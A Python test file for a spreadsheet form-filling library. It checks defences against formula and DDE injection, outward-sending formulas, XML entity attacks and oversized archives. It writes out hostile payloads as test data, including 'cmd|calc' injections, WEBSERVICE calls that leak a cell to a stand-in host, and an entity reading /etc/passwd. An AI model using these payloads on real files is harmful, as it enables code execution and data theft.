"""What must never leave: a text that runs as a formula, a link to a formula's result that is stale, an unbounded template.

Each check is also run against a way that breaks the rule, and must notice it.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable

import openpyxl
import pytest

from tests.flow.filling.forms import elders, opened, saved, sheet_of
from yibiao.base.problems import ProblemError
from yibiao.flow.filling import CellWrite, FillPlan, SheetPlan, write
from yibiao.flow.filling.ooxml.package import LIMIT, Package

ATTACKS = ('=HYPERLINK("http://x")', "=cmd|' /C calc'!A0", "+1+cmd", "-2+3", "@SUM(A1)", "\t=1+1")

Way = Callable[[bytes, str], bytes]


def ours(template: bytes, text: str) -> bytes:
    return write(template, FillPlan((SheetPlan("表", cells=(CellWrite(5, 2, text),)),))).data


def naive(template: bytes, text: str) -> bytes:
    """The usual way: openpyxl takes what begins with = for a formula."""
    book = openpyxl.load_workbook(io.BytesIO(template))
    book["表"]["B5"] = text
    return saved(book)


def holds_no_formula(way: Way, text: str) -> bool:
    return opened(way(elders(), text))["表"]["B5"].data_type != "f"


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_of_the_ledger_runs_as_a_formula(text: str) -> None:
    assert holds_no_formula(ours, text)
    assert opened(ours(elders(), text))["表"]["B5"].value == text


def test_the_check_for_formulas_notices_a_writer_that_makes_some() -> None:
    assert not all(holds_no_formula(naive, text) for text in ATTACKS)


def sums_are_true(data: bytes) -> bool:
    """Stored results agree with the cells, or there are none."""
    sheet = opened(data, values=True)["表"]
    return sheet["A3"].value in (None, sheet["A1"].value + sheet["A2"].value)


def template_with_stored_sum() -> bytes:
    book, _ = sheet_of([[1], [2], ["=SUM(A1:A2)"]])
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(saved(book))) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(
                name,
                old.read(name)
                .replace(b"<f>SUM(A1:A2)</f><v />", b"<f>SUM(A1:A2)</f><v>3</v>")
                .replace(b"<v></v>", b"<v>3</v>"),
            )
    return out.getvalue()


def test_no_stored_result_outlives_the_cells_it_came_from() -> None:
    template = template_with_stored_sum()
    assert opened(template, values=True)["表"]["A3"].value == 3
    filled = write(template, FillPlan((SheetPlan("表", cells=(CellWrite(1, 1, 40),)),))).data
    assert opened(filled, values=True)["表"]["A3"].value == 42
    assert sums_are_true(filled)


def test_the_check_for_stored_results_notices_a_stale_one() -> None:
    template = template_with_stored_sum()
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(template)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name).replace(b"<v>1</v>", b"<v>40</v>"))
    assert not sums_are_true(out.getvalue())


def test_a_template_that_unpacks_to_too_much_is_refused_before_it_does() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(4):
            archive.writestr(f"xl/{number}.bin", bytes(LIMIT // 4 + 1))
    with pytest.raises(ProblemError, match="FILLING_TEMPLATE_TOO_BIG"):
        Package(out.getvalue())


def test_entities_of_a_template_are_not_followed() -> None:
    data = elders()
    out = io.BytesIO()
    entity = b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                part = part.replace(b"<worksheet", entity + b"<worksheet", 1)
            new.writestr(name, part)
    filled = write(out.getvalue(), FillPlan((SheetPlan("表", cells=(CellWrite(5, 2, "甲"),)),))).data
    assert b"root:" not in zipfile.ZipFile(io.BytesIO(filled)).read("xl/worksheets/sheet1.xml")


OUTWARD = (
    '=WEBSERVICE("http://x/?"&B5)',
    '=IF(1,_xlfn.WEBSERVICE("http://x/?"&B5),0)',
    '=HYPERLINK("http://x/?"&B5,"点击")',
    "=cmd|'/c calc'!A0",
    "='cmd'|'/c calc'!A0",
    '=_xlfn.IMAGE("http://x/"&B5)',
    '=RTD("x","",B5)',
)
INWARD = (
    "=SUM(A1:A9)",
    '=HYPERLINK("#表!A1","目录")',
    '=IF(A1="WEBSERVICE(|!)","a","b")',
    "=MYWEBSERVICE(A1)",
    "=[1]表!A1",
    '="a|b!c"&A1',
)


def with_formula(formula: str) -> bytes:
    book = opened(elders())
    book["表"]["H1"] = formula
    return saved(book)


def keeps_formula(way: Way, formula: str) -> bool:
    return opened(way(with_formula(formula), "张三"))["表"]["H1"].data_type == "f"


@pytest.mark.parametrize("formula", OUTWARD)
def test_a_form_cannot_send_out_what_is_filled_into_it(formula: str) -> None:
    assert not keeps_formula(ours, formula)
    done = write(with_formula(formula), FillPlan((SheetPlan("表", cells=(CellWrite(5, 2, "张三"),)),)))
    assert [(each.code, each.place.cell) for each in done.problems] == [("FILLING_LEADS_OUT", "H1")]


@pytest.mark.parametrize("formula", INWARD)
def test_formulas_that_stay_in_the_form_stay(formula: str) -> None:
    assert keeps_formula(ours, formula)


def test_the_check_for_outward_formulas_notices_a_writer_that_keeps_them() -> None:
    assert all(keeps_formula(naive, formula) for formula in OUTWARD)
